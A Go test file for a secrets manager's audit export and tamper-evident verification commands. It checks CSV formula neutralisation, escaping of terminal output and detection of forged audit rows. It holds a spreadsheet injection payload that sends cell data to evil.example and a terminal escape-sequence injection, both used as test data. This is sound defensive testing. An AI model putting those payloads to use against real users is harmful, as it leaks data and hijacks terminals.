package cli

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgxpool"

	"github.com/pgsecrets/terraform-provider-pgsecrets/internal/audit"
)

const auditCanary = "audit-canary-value-5d1e"

// seedAuditTrail makes events by two actors in two projects: creates,
// updates and reads.
func (s *session) seedAuditTrail() {
	s.t.Helper()
	for i, step := range []struct{ actor, project, name string }{
		{"alice@ops", "billing", "STRIPE_KEY"},
		{"bob@ops", "web", "SESSION_SECRET"},
		{"alice@ops", "web", "CSRF_KEY"},
		{"bob@ops", "billing", "STRIPE_KEY"},
	} {
		s.mustRun(fmt.Sprintf("%s-%d", auditCanary, i), "--actor", step.actor, "secret", "add", "--yes", "--project", step.project, "--name", step.name)
		s.mustRun("", "--actor", step.actor, "secret", "get", "--project", step.project, "--name", step.name)
	}
}

func readAuditEvents(t *testing.T, pool *pgxpool.Pool) []audit.Event {
	t.Helper()
	rows, err := pool.Query(context.Background(), "select seq, at, actor, db_role, action, project, subject, details, mac_kid, prev_mac, mac from pgsecrets.audit_events order by seq")
	if err != nil {
		t.Fatal(err)
	}
	events, err := pgx.CollectRows(rows, func(r pgx.CollectableRow) (audit.Event, error) {
		var e audit.Event
		return e, r.Scan(&e.Seq, &e.At, &e.Actor, &e.DBRole, &e.Action, &e.Project, &e.Subject, &e.Details, &e.MACKID, &e.PrevMAC, &e.MAC)
	})
	if err != nil {
		t.Fatal(err)
	}
	return events
}

// exportedEvent is one JSON line of an export, decoded as a consumer would.
type exportedEvent struct {
	Seq     int64     `json:"seq"`
	At      time.Time `json:"at"`
	Actor   string    `json:"actor"`
	DBRole  string    `json:"db_role"`
	Action  string    `json:"action"`
	Project string    `json:"project"`
	Subject string    `json:"subject"`
	Details string    `json:"details"`
	MACKID  string    `json:"mac_kid"`
	PrevMAC string    `json:"prev_mac"`
	MAC     string    `json:"mac"`
}

func (x exportedEvent) event() audit.Event {
	return audit.Event{Seq: x.Seq, At: x.At, Actor: x.Actor, DBRole: x.DBRole, Action: x.Action, Project: x.Project,
		Subject: x.Subject, Details: x.Details, MACKID: x.MACKID, PrevMAC: x.PrevMAC, MAC: x.MAC}
}

func parseJSONL(t *testing.T, out string) []audit.Event {
	t.Helper()
	var events []audit.Event
	sc := bufio.NewScanner(strings.NewReader(out))
	for sc.Scan() {
		dec := json.NewDecoder(strings.NewReader(sc.Text()))
		dec.DisallowUnknownFields()
		var x exportedEvent
		if err := dec.Decode(&x); err != nil {
			t.Fatalf("export line is not an event object: %v\n%s", err, sc.Text())
		}
		events = append(events, x.event())
	}
	return events
}

func parseCSV(t *testing.T, out string) []audit.Event {
	t.Helper()
	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v", err)
	}
	if len(records) == 0 || !slices.Equal(records[0], audit.ExportFields) {
		t.Fatalf("CSV header = %v, want %v", records[:min(1, len(records))], audit.ExportFields)
	}
	var events []audit.Event
	for _, r := range records[1:] {
		seq, err := strconv.ParseInt(r[0], 10, 64)
		if err != nil {
			t.Fatal(err)
		}
		at, err := time.Parse(time.RFC3339, r[1])
		if err != nil {
			t.Fatalf("at %q is not RFC 3339: %v", r[1], err)
		}
		events = append(events, audit.Event{Seq: seq, At: at, Actor: r[2], DBRole: r[3], Action: r[4], Project: r[5],
			Subject: r[6], Details: r[7], MACKID: r[8], PrevMAC: r[9], MAC: r[10]})
	}
	return events
}

func sameEvents(t *testing.T, what string, got, want []audit.Event) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("%s: exported %d events, want %d", what, len(got), len(want))
	}
	for i := range want {
		g, w := got[i], want[i]
		if !g.At.Equal(w.At) {
			t.Fatalf("%s: event %d at %v, want %v", what, w.Seq, g.At, w.At)
		}
		g.At = w.At
		if g != w {
			t.Fatalf("%s: event %d does not round-trip:\n got %+v\nwant %+v", what, w.Seq, g, w)
		}
	}
}

func TestAuditExportFiltersFormatsRoundTrip(t *testing.T) {
	s := newSession(t)
	s.seedAuditTrail()
	pool := s.pool()
	before := readAuditEvents(t, pool)
	since, until := before[2].At, before[6].At

	for _, tc := range []struct {
		name  string
		args  []string
		match func(e audit.Event) bool
	}{
		{"everything", nil, func(audit.Event) bool { return true }},
		{"project", []string{"--project", "billing"}, func(e audit.Event) bool { return e.Project == "billing" }},
		{"actor", []string{"--actor", "bob@ops"}, func(e audit.Event) bool { return e.Actor == "bob@ops" }},
		{"action", []string{"--action", "secret.read"}, func(e audit.Event) bool { return e.Action == "secret.read" }},
		{"since", []string{"--since", since.Format(time.RFC3339Nano)}, func(e audit.Event) bool { return !e.At.Before(since) }},
		{"until", []string{"--until", until.Format(time.RFC3339Nano)}, func(e audit.Event) bool { return e.At.Before(until) }},
		{"all at once", []string{"--project", "web", "--action", "secret.create", "--since", since.Format(time.RFC3339Nano), "--until", until.Format(time.RFC3339Nano)},
			func(e audit.Event) bool {
				return e.Project == "web" && e.Action == "secret.create" && !e.At.Before(since) && e.At.Before(until)
			}},
	} {
		for _, format := range []string{"jsonl", "csv"} {
			// --actor is also the global flag naming who acts: the export
			// filter shadows it here, and the export is recorded under the
			// session's actor.
			r := s.mustRun("", append([]string{"audit", "export", "--format", format}, tc.args...)...)
			var got []audit.Event
			if format == "jsonl" {
				got = parseJSONL(t, r.stdout)
			} else {
				got = parseCSV(t, r.stdout)
			}
			// The export's own event is committed before it streams, so it is
			// in the database now, and in the export when it matches.
			var want []audit.Event
			for _, e := range readAuditEvents(t, pool) {
				if tc.match(e) {
					want = append(want, e)
				}
			}
			sameEvents(t, tc.name+" "+format, got, want)
			if strings.Contains(r.stdout, auditCanary) {
				t.Fatal("an export holds a secret value")
			}
		}
	}

	// Every export was itself recorded, with its filters.
	var exports []audit.Event
	for _, e := range readAuditEvents(t, pool) {
		if e.Action == audit.ActionAuditExport {
			exports = append(exports, e)
		}
	}
	if len(exports) != 14 {
		t.Fatalf("%d audit.export events, want 14", len(exports))
	}
	if want := `{"action":"secret.create","format":"csv","project":"web","since":"` + since.UTC().Format(time.RFC3339Nano) + `","until":"` + until.UTC().Format(time.RFC3339Nano) + `"}`; exports[13].Details != want {
		t.Fatalf("last export recorded %s, want %s", exports[13].Details, want)
	}
}

func TestAuditExportWritesFileWholeOrNotAtAll(t *testing.T) {
	s := newSession(t)
	s.seedAuditTrail()
	dir := t.TempDir()
	dest := filepath.Join(dir, "audit.jsonl")
	r := s.mustRun("", "audit", "export", "--out", dest)
	if r.stdout != "" {
		t.Fatalf("export to a file wrote to stdout: %q", r.stdout)
	}
	n := len(readAuditEvents(t, s.pool()))
	if want := fmt.Sprintf("Exported %d audit event(s) to %s\n", n, dest); r.stderr != want {
		t.Fatalf("stderr = %q, want %q", r.stderr, want)
	}
	b, err := os.ReadFile(dest)
	if err != nil {
		t.Fatal(err)
	}
	if lines := strings.Count(string(b), "\n"); lines != n {
		t.Fatalf("file has %d lines, want %d", lines, n)
	}

	// An export that fails part way leaves the old file as it was and no
	// temporary file behind.
	f, err := createAtomic(dest)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintln(f, `{"seq":1}`)
	f.abort()
	after, _ := os.ReadFile(dest)
	if string(after) != string(b) {
		t.Fatal("an aborted export changed the destination")
	}
	entries, _ := os.ReadDir(dir)
	if len(entries) != 1 {
		t.Fatalf("directory holds %d entries after an aborted export, want only the export", len(entries))
	}
}

func TestAuditExportRejectsBadFlags(t *testing.T) {
	s := newSession(t)
	wantFailure(t, s.run("", "audit", "export", "--format", "xml"), 2, `--format "xml" is not supported: use jsonl or csv`)
	wantFailure(t, s.run("", "audit", "export", "--since", "yesterday"), 2, `--since "yesterday" is not a time: use RFC 3339`)
	wantFailure(t, s.run("", "audit", "export", "--since", "2025-02-01", "--until", "2025-01-01"), 2, "is not before --until")
	wantFailure(t, s.run("", "audit", "export", "--format", "csv", "--csv-formulas", "escape"), 2, `--csv-formulas "escape" is not supported: use keep or neutralise`)
	wantFailure(t, s.run("", "audit", "export", "--csv-formulas", "neutralise"), 2, "this export is JSON lines: add --format csv")
}

// An actor is whatever the user configured, so it may be a spreadsheet
// formula: the export keeps it byte for byte unless asked, and asked, writes
// what the dashboard's download does.
func TestAuditExportKeepsFormulasUnlessAskedAsTheDashboardDoes(t *testing.T) {
	const hyperlink = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	s := newSession(t)
	// The project's key is made by its first write: that event is not the
	// one under test.
	s.mustRun(auditCanary, "secret", "add", "--project", "app", "--name", "FIRST")
	s.mustRun(auditCanary, "--actor", hyperlink, "secret", "add", "--yes", "--project", "app", "--name", "K")
	s.mustRun(testPassword, "user", "add", "--email", "v@example.com", "--role", "viewer")

	exact := s.mustRun("", "audit", "export", "--format", "csv", "--actor", hyperlink).stdout
	if events := parseCSV(t, exact); len(events) != 1 || events[0].Actor != hyperlink {
		t.Fatalf("default CSV export does not hold the exact actor:\n%s", exact)
	}
	if cell := `,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`; !strings.Contains(exact, cell) {
		t.Fatalf("default CSV export lacks %s:\n%s", cell, exact)
	}

	neutralised := s.mustRun("", "audit", "export", "--format", "csv", "--csv-formulas", "neutralise", "--actor", hyperlink).stdout
	if events := parseCSV(t, neutralised); len(events) != 1 || events[0].Actor != "'"+hyperlink {
		t.Fatalf("neutralised CSV export:\n%s", neutralised)
	}
	rs := s.startServe()
	res := rs.post(rs.signedIn("v@example.com"), "/audit/export", url.Values{"format": {"csv"}, "actor": {hyperlink}})
	download, err := io.ReadAll(res.Body)
	res.Body.Close()
	if err != nil || res.StatusCode != http.StatusOK {
		t.Fatalf("dashboard download: %d %v\n%s", res.StatusCode, err, download)
	}
	rs.stop()
	if string(download) != neutralised {
		t.Fatalf("the dashboard's CSV download differs from --csv-formulas neutralise:\ndashboard:\n%s\ncli:\n%s", download, neutralised)
	}
}

// forge runs SQL with the append-only triggers off, as a superuser with
// write access but no root key could.
func forge(t *testing.T, pool *pgxpool.Pool, sql string, args ...any) {
	t.Helper()
	ctx := context.Background()
	tx, err := pool.Begin(ctx)
	if err != nil {
		t.Fatal(err)
	}
	defer tx.Rollback(ctx)
	for _, stmt := range []string{"alter table pgsecrets.audit_events disable trigger user", sql, "alter table pgsecrets.audit_events enable trigger user"} {
		a := args
		if stmt != sql {
			a = nil
		}
		if _, err := tx.Exec(ctx, stmt, a...); err != nil {
			t.Fatalf("forge: %s: %v", stmt, err)
		}
	}
	if err := tx.Commit(ctx); err != nil {
		t.Fatal(err)
	}
}

func TestAuditVerifyPrintsHeadAndCount(t *testing.T) {
	s := newSession(t)
	s.seedAuditTrail()
	events := readAuditEvents(t, s.pool())
	head := events[len(events)-1]
	r := s.mustRun("", "audit", "verify")
	for _, want := range []string{fmt.Sprintf("Audit chain verified: %d event(s)", len(events)), fmt.Sprintf("Head: event %d, MAC %s\n", head.Seq, head.MAC)} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("verify output lacks %q:\n%s", want, r)
		}
	}
	r = s.mustRun("", "audit", "verify", "--output", "json", "--expect-head", events[3].MAC)
	var rep audit.ChainReport
	if err := json.Unmarshal([]byte(r.stdout), &rep); err != nil {
		t.Fatal(err)
	}
	if rep.Count != int64(len(events)) || rep.HeadMAC != head.MAC || rep.ExpectedHeadSeq != events[3].Seq {
		t.Fatalf("verify JSON = %+v", rep)
	}
}

func TestAuditVerifyDetectsEditedEvent(t *testing.T) {
	s := newSession(t)
	s.seedAuditTrail()
	pool := s.pool()
	forge(t, pool, "update pgsecrets.audit_events set actor = 'mallory' where seq = 4")
	r := s.run("", "audit", "verify")
	wantFailure(t, r, 1, "audit chain broken at event 4: its MAC does not match its contents")
}

var hexMAC = regexp.MustCompile(`[0-9a-f]{64}`)

// Someone who can edit rows edits an event, then asks verify, again and
// again, for what the MAC should be. Verify must never tell: its output,
// text or JSON, holds no MAC at all while the chain is broken, so the forger
// makes no progress.
func TestAuditVerifyNeverHelpsRepairAForgedChain(t *testing.T) {
	s := newSession(t)
	s.seedAuditTrail()
	pool := s.pool()
	forge(t, pool, "update pgsecrets.audit_events set actor = 'mallory' where seq = 4")
	var first string
	for attempt := range 4 {
		for _, args := range [][]string{{"audit", "verify"}, {"audit", "verify", "--output", "json"}} {
			r := s.run("", args...)
			wantFailure(t, r, 1, "audit chain broken at event 4")
			if m := hexMAC.FindString(r.stdout + r.stderr); m != "" {
				t.Fatalf("%v printed a MAC %s:\n%s", args, m, r)
			}
			if first == "" {
				first = r.stderr
			} else if r.stderr != first {
				t.Fatalf("attempt %d: output changed, a forger learns from it:\n%s\nthen\n%s", attempt, first, r.stderr)
			}
		}
		// The forger's best guess, the old MAC's neighbour, gets nowhere.
		forge(t, pool, "update pgsecrets.audit_events set mac = prev_mac where seq = 4")
	}
}

// Database text in verify's output is quoted: an escape sequence stored in
// an event cannot reach the operator's terminal raw.
func TestAuditVerifyQuotesDatabaseText(t *testing.T) {
	s := newSession(t)
	s.seedAuditTrail()
	forge(t, s.pool(), "update pgsecrets.audit_events set mac_kid = E'\\x1b]0;owned\\x07\\x1b[2J' where seq = 3")
	r := s.run("", "audit", "verify")
	wantFailure(t, r, 1, "audit event 3 is keyed by", `\x1b]0;owned\a\x1b[2J`)
	if strings.ContainsRune(r.stderr, 0x1b) {
		t.Fatalf("verify wrote a raw escape character:\n%q", r.stderr)
	}
}

func TestAuditVerifyDetectsDeletedEvent(t *testing.T) {
	s := newSession(t)
	s.seedAuditTrail()
	pool := s.pool()
	forge(t, pool, "delete from pgsecrets.audit_events where seq = 5")
	wantFailure(t, s.run("", "audit", "verify"), 1, "audit chain broken at event 5: the event is missing (the next event found is 6)")
}

func TestAuditVerifyDetectsDeletedNewestEvents(t *testing.T) {
	s := newSession(t)
	s.seedAuditTrail()
	pool := s.pool()
	events := readAuditEvents(t, pool)
	recorded := events[len(events)-1].MAC

	forge(t, pool, "delete from pgsecrets.audit_events where seq > $1", events[len(events)-3].Seq)
	wantFailure(t, s.run("", "audit", "verify"), 1, "audit chain truncated", fmt.Sprintf("the chain head records event %d, but the newest event that verifies is %d", len(events), len(events)-2))

	// A forger who also rewinds the head leaves a consistent, shorter chain:
	// only a head recorded elsewhere shows the loss.
	last := events[len(events)-3]
	forge(t, pool, "update pgsecrets.audit_head set seq = $1, mac = $2", last.Seq, last.MAC)
	s.mustRun("", "audit", "verify")
	r := s.run("", "audit", "verify", "--expect-head", recorded)
	wantFailure(t, r, 1, "the expected head is no longer in the chain")
	if hexMAC.MatchString(r.stderr) {
		t.Errorf("truncation report prints a MAC:\n%s", r)
	}
}

func TestAuditExportOutputIsTheFormatAndOutputFileIsDeprecated(t *testing.T) {
	s := newSession(t)
	s.seedAuditTrail()
	n := len(readAuditEvents(t, s.pool()))

	// --output json is JSON lines, the default format; text changes nothing.
	for i, format := range []string{"json", "text"} {
		r := s.mustRun("", "audit", "export", "--output", format)
		if got := parseJSONL(t, r.stdout); len(got) != n+i+1 || r.stderr != "" {
			t.Errorf("audit export --output %s: %d events, want %d:\n%s", format, len(got), n+i+1, r)
		}
	}
	wantFailure(t, s.run("", "audit", "export", "--output", "json", "--format", "csv"), 2,
		"--output json is JSON lines and --format csv is not: pass one of the two")

	// A file name still works, with a notice.
	dir := t.TempDir()
	dest := filepath.Join(dir, "audit.jsonl")
	r := s.mustRun("", "audit", "export", "--output", dest)
	want := "Warning: --output FILE is deprecated for `pgsecrets audit export`: use --out " + dest + " (--output is the output format, text or json, in every command)\n" +
		fmt.Sprintf("Exported %d audit event(s) to %s\n", n+3, dest)
	if r.stdout != "" || r.stderr != want {
		t.Errorf("audit export --output FILE:\n%s\nwant stderr:\n%s", r, want)
	}
	if b, err := os.ReadFile(dest); err != nil || strings.Count(string(b), "\n") != n+3 {
		t.Errorf("audit export --output FILE wrote %d lines (%v), want %d", strings.Count(string(b), "\n"), err, n+3)
	}
	if fi, _ := os.Stat(dest); fi.Mode().Perm() != 0o600 {
		t.Errorf("export file mode %v, want 0600", fi.Mode().Perm())
	}

	wantFailure(t, s.run("", "audit", "export", "--output", "csv"), 2,
		`--output "csv" is not supported: use text or json (to write to a file, use --out FILE)`)
	wantFailure(t, s.run("", "audit", "export", "--output", dest, "--out", dest), 2, "--out and --output both name a file")
}

func TestAuditExportTakesDurationsAgo(t *testing.T) {
	s := newSession(t)
	s.seedAuditTrail()
	n := len(readAuditEvents(t, s.pool()))
	if got := parseJSONL(t, s.mustRun("", "audit", "export", "--since", "7d").stdout); len(got) != n+1 {
		t.Errorf("--since 7d exported %d events, want all %d", len(got), n+1)
	}
	if r := s.mustRun("", "audit", "export", "--until", "1h"); r.stdout != "" {
		t.Errorf("--until 1h exported events made just now:\n%s", r.stdout)
	}
	wantFailure(t, s.run("", "audit", "export", "--since", "-7d"), 2, "--since -7d is negative: give how long ago, e.g. 24h or 7d")
	wantFailure(t, s.run("", "audit", "export", "--since", "1d", "--until", "2d"), 2, "--since 1d is not before --until 2d")
}
